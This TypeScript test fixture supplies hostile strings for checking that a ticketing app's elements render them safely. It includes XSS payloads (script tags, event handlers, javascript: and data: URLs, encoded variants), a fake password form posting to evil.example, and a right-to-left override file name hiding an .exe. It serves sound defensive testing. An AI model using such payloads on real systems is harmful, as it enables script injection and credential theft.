/**
 * Hostile text for the elements' tests: every string here must reach the screen as
 * text, or as sanitised HTML without anything active. Each payload that ever runs sets
 * `window.__hostile`, so a test only has to check that it stays undefined.
 */
import { DEMO_USER } from './seed.js';
import type { FakeTicket, GlpiFakeState } from './state.js';

const RUN = 'window.__hostile=1';

export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<a href="javascript:${RUN}">lien</a>`,
  `<a href="JaVaScRiPt&colon;${RUN}">lien</a>`,
  `<svg onload="${RUN}"><circle r="5"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="10">svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="data:text/html,<script>${RUN}</script>">data</a>`,
  `<form action="https://evil.example/"><input name="password"><button>OK</button></form>`,
  `<style>* { display: none !important }</style>`,
  `<details open ontoggle="${RUN}">d</details>`,
  `"><img src=x onerror="${RUN}">`,
  `'; ${RUN}; '`,
  // Entity-encoded once and twice: decoding must not turn them into markup that runs.
  `&lt;img src=x onerror=&quot;${RUN}&quot;&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  // Right-to-left override, as in a file name that hides its real extension.
  'facture\u202Efdp.exe',
];

/** About `size` characters (1 MB by default) of harmless but endless text, with a payload at the end. */
export function hugeText(size = 1_048_576): string {
  const line = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. ';
  return line.repeat(Math.ceil(size / line.length)).slice(0, size) + HOSTILE_TEXTS[1];
}

/**
 * A ticket of `requesterId` where every text the elements show is hostile: title,
 * description, a follow-up and a waiting solution by a technician whose names are
 * hostile, a private follow-up, and documents with hostile names.
 */
export function addHostileTicket(state: GlpiFakeState, requesterId: number = DEMO_USER.id): FakeTicket {
  const technician = state.addUser({ firstname: HOSTILE_TEXTS[1], realname: HOSTILE_TEXTS[0], rights: { followupAll: true, seePrivate: true } });
  const ticket = state.addTicket({
    name: HOSTILE_TEXTS.join(' '),
    content: HOSTILE_TEXTS.map((text) => `<p>${text}</p>`).join(''),
    requester: requesterId,
    technician: technician.id,
  });
  state.addFollowup(ticket.id, { content: HOSTILE_TEXTS.join('<br>'), userId: technician.id });
  state.addFollowup(ticket.id, { content: `<p>private ${HOSTILE_TEXTS[0]}</p>`, userId: technician.id, isPrivate: true });
  state.attachDocument(ticket.id, new File(['<script>window.__hostile=1</script>'], `${HOSTILE_TEXTS[1]}.html`, { type: 'text/html' }));
  state.attachDocument(ticket.id, new File(['x'], HOSTILE_TEXTS[HOSTILE_TEXTS.length - 1], { type: 'application/octet-stream' }));
  state.proposeSolution(ticket.id, HOSTILE_TEXTS.slice().reverse().join(''), { userId: technician.id });
  return ticket;
}
